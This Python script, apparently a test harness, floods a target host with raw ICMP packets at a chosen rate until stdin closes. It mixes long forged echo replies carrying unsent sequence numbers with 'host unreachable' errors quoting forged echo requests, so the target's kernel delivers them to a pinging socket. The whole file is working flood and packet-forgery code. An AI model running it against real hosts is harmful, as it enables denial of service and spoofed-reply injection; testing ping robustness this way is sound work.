"""Floods a host with ICMP until its standard input ends: `flooder.py FROM TO IDENTIFIER PACKETS_A_SECOND [errors]`.

One packet in four is a long echo reply with the identifier and a sequence number that was never sent, unless only errors are
asked for; the others are ICMP errors that quote an echo request with it, so that the victim's kernel hands them to the socket. Writes `ready`, and at the
end how many packets it sent in how many seconds.
"""
import ctypes
import os
import select
import socket
import struct
import sys
import time

REPLY_BYTES = 1400
BATCH = 64
UNSENT = 40000

source, target, identifier, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
with_replies = sys.argv[5:] != ["errors"]
source_bytes, target_bytes = socket.inet_aton(source), socket.inet_aton(target)
libc = ctypes.CDLL(None, use_errno=True)


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class mmsghdr(ctypes.Structure):
    _fields_ = [("header", msghdr), ("length", ctypes.c_uint)]


def with_checksum(message):
    words = struct.unpack(f"!{len(message) // 2}H", message)
    total = sum(words)
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return message[:2] + struct.pack("!H", ~total & 0xffff) + message[4:]


def reply(sequence):
    return with_checksum(struct.pack("!BBHHH", 0, 0, 0, identifier, sequence) + bytes(REPLY_BYTES))


def error(sequence):
    """Host unreachable, about a request from the victim to us."""
    request = struct.pack("!BBHHH", 8, 0, 0, identifier, sequence)
    quoted = struct.pack("!BBHHHBBH", 0x45, 0, 84, 0, 0, 64, 1, 0) + target_bytes + source_bytes + request
    return with_checksum(struct.pack("!BBHI", 3, 1, 0, 0) + quoted)


packets = [reply(UNSENT + n) if with_replies and n % 4 == 0 else error(1 + n) for n in range(BATCH)]
buffers = [ctypes.create_string_buffer(packet, len(packet)) for packet in packets]
vectors = [iovec(ctypes.cast(buffer, ctypes.c_void_p), len(buffer)) for buffer in buffers]
messages = (mmsghdr * BATCH)()
for message, vector in zip(messages, vectors):
    message.header.iov = ctypes.pointer(vector)
    message.header.iovlen = 1

sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
sender.bind((source, 0))
sender.connect((target, 0))
print("ready", flush=True)
sent = 0
begun = time.monotonic()
while not select.select([0], [], [], 0)[0]:
    ahead = sent / rate - (time.monotonic() - begun)
    if ahead > 0.0005:
        time.sleep(ahead)
    for _ in range(16):
        sent += max(0, libc.sendmmsg(sender.fileno(), messages, BATCH, 0))
print(sent, round(time.monotonic() - begun, 3), flush=True)
